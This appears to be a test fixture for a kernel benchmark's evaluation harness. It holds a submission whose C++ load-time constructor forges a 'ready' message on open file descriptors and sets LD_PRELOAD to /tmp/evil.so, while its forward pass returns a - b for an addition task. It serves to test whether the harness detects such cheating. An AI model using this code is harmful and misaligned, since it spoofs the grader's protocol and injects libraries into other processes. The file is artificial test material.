"""Answers from the constructor of its library, before anything of it is called.

layer: process
mechanism: A library runs code when it is loaded; what loads it may be more than the worker.
problem: add
expected: wrong_value, runtime_error, load_error, suspect
device: cpu
timed: no
"""

import ctypes

import torch
from torch import nn
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <cstdlib>
#include <cstring>
#include <unistd.h>
extern char **environ;
__attribute__((constructor)) static void begin() {
  const char *text = "{\"kind\":\"ready\"}";
  unsigned char frame[64] = {0, 0, 0, (unsigned char)strlen(text), 0, 0, 0, 0};
  memcpy(frame + 8, text, strlen(text));
  for (int fd = 3; fd < 64; fd++) { (void)!write(fd, frame, 8 + strlen(text)); }
  setenv("LD_PRELOAD", "/tmp/evil.so", 1);
}
extern "C" void nothing() {}
"""
load_inline(name="begins", cpp_sources=SOURCE, no_implicit_headers=True, is_python_module=False)


class ModelNew(nn.Module):
    def forward(self, a, b):
        return a - b
